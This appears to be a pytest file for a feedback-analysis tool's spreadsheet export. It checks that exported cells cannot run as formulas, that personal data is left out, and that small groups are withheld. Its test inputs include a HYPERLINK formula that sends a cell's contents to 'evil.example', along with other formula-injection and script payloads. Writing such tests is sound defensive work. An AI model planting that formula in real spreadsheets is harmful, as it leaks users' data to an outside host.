"""``draftbook export tables``: one spreadsheet of a round for the team, with nothing a spreadsheet
could run and no personal data."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from draftbook.book.tables import write_tables
from draftbook.cli import main
from draftbook.model.paths import Workbook
from draftbook.model.rounds import load_round, read_table

ROUND = "2022-05-written-feedback"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert(1)</script>",
]


def add_comments(workbook: Workbook, rows: list[dict[str, str]]) -> None:
    path = workbook.rounds_dir / ROUND / "comments.csv"
    with path.open("a", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, ["respondent", "call", "kind", "language", "text", "publishable"])
        writer.writerows(rows)


@pytest.fixture
def hostile_round(workbook: Workbook) -> Workbook:
    respondent = read_table(load_round(workbook, ROUND), "respondents")["respondent"].iloc[0]
    base = {"respondent": respondent, "call": "CTA-14", "kind": "call", "language": "en", "publishable": "True"}
    rows = [base | {"text": text} for text in HOSTILE]
    rows.append(base | {"call": "", "kind": "general", "text": "Do not quote me: Jane Private", "publishable": "False"})
    add_comments(workbook, rows)
    return workbook


def cells(path: Path) -> dict[str, list[list[object]]]:
    book = load_workbook(path)
    return {sheet.title: [[c.value for c in row] for row in sheet.iter_rows()] for sheet in book.worksheets}


def test_the_sheets_and_their_counts(hostile_round: Workbook, tmp_path: Path) -> None:
    written = write_tables(hostile_round, ROUND, tmp_path / "t.xlsx", "en")
    sheets = cells(written.path)
    assert list(sheets) == ["Support", "By region", "By type", "Opinion groups", "Next round", "Comments", "Decisions"]
    assert sheets["Opinion groups"][1][0] in ("distinct groups", "too few answers", "no distinct groups", "no answers")
    regions = {row[1] for row in sheets["Next round"][1:] if row[0] == "Region"}
    assert regions and all(row[3] is not None for row in sheets["Next round"][1:] if row[0] == "Region")
    round_ = load_round(hostile_round, ROUND)
    assert [row[0] for row in sheets["Support"][1:]] == [c.id for c in round_.calls]
    comments = read_table(round_, "comments")
    quotable = int(comments["publishable"].astype(str).eq("True").sum())
    assert len(sheets["Comments"]) - 1 == quotable == written.rows["Comments"]
    texts = [row[-1] for row in sheets["Comments"][1:]]
    assert all(t in texts for t in HOSTILE) and "Do not quote me: Jane Private" not in texts


def test_no_cell_can_run_as_a_formula(hostile_round: Workbook, tmp_path: Path) -> None:
    path = write_tables(hostile_round, ROUND, tmp_path / "t.xlsx", "fr").path
    book = load_workbook(path)
    risky = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    risky += 1
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert risky >= len(HOSTILE) - 1  # every hostile comment, kept as typed
    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def test_no_personal_data_and_small_groups_withheld(hostile_round: Workbook, tmp_path: Path) -> None:
    sheets = cells(write_tables(hostile_round, ROUND, tmp_path / "t.xlsx", "es").path)
    flat = [str(v) for rows in sheets.values() for row in rows for v in row if v is not None]
    assert not [v for v in flat if re.search(r"\bR-[0-9a-f]{12}\b", v)], "a respondent's pseudonym"
    assert not [v for v in flat if re.search(r"[\w.+-]+@[\w-]+\.[\w.]+", v)], "an e-mail address"
    respondents = read_table(load_round(hostile_round, ROUND), "respondents")
    small = {g for g, n in respondents["region"].value_counts().items() if n < 5}
    region = sheets["Por región"]
    header = region[0]
    assert header == ["Llamado", "Grupo", "Opiniones", "A favor", "Apoyo (4-5)"]
    if small:
        withheld = [row for row in region[1:] if row[2] is None]
        assert withheld and all(row[3] is None and row[4] is None for row in withheld)


def test_the_command_line_writes_the_spreadsheet(hostile_round: Workbook, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "tables", "--round", ROUND, "--lang", "en"]) == 0
    out = capsys.readouterr().out
    target = hostile_round.build_dir / "tables" / f"{ROUND}-en.xlsx"
    assert target.is_file() and str(target.name) in out and "Comments" in out
    assert main(["export", "tables", "--round", "2031-01-none"]) == 1


def test_the_opinion_groups_sheet_gives_each_groups_support() -> None:
    import numpy as np
    import pandas as pd

    from draftbook.book.tables import opinions_sheet
    from draftbook.model.calls import Call

    calls = [Call(f"CTA-0{i}", "national-governments", "x", {"fr": "t"}) for i in range(1, 7)]
    rng = np.random.default_rng(7)
    rows, people = [], []
    for person in range(80):
        camp = person % 2  # two planted camps: one for the first three calls, one for the last three
        people.append({"respondent": f"R-{person:012x}", "region": "europe", "constituency": "partner"})
        for index, call in enumerate(calls):
            base = 5 if (index < 3) != bool(camp) else 1
            score = int(np.clip(base + rng.integers(-1, 2), 1, 5))
            rows.append({"respondent": f"R-{person:012x}", "call": call.id, "score": float(score), "label": ""})
    sheet = opinions_sheet(pd.DataFrame(rows), pd.DataFrame(people), calls, "fr")
    assert set(sheet["status"]) == {"groupes distincts"} and set(sheet["group"]) == {1, 2}
    assert sheet.groupby("group")["respondents"].first().sum() == 80
    first = sheet[sheet["call"] == "CTA-01"].set_index("group")["support"]
    assert sorted(first.round(2).tolist()) == [0.0, 1.0]  # one camp all for, the other all against
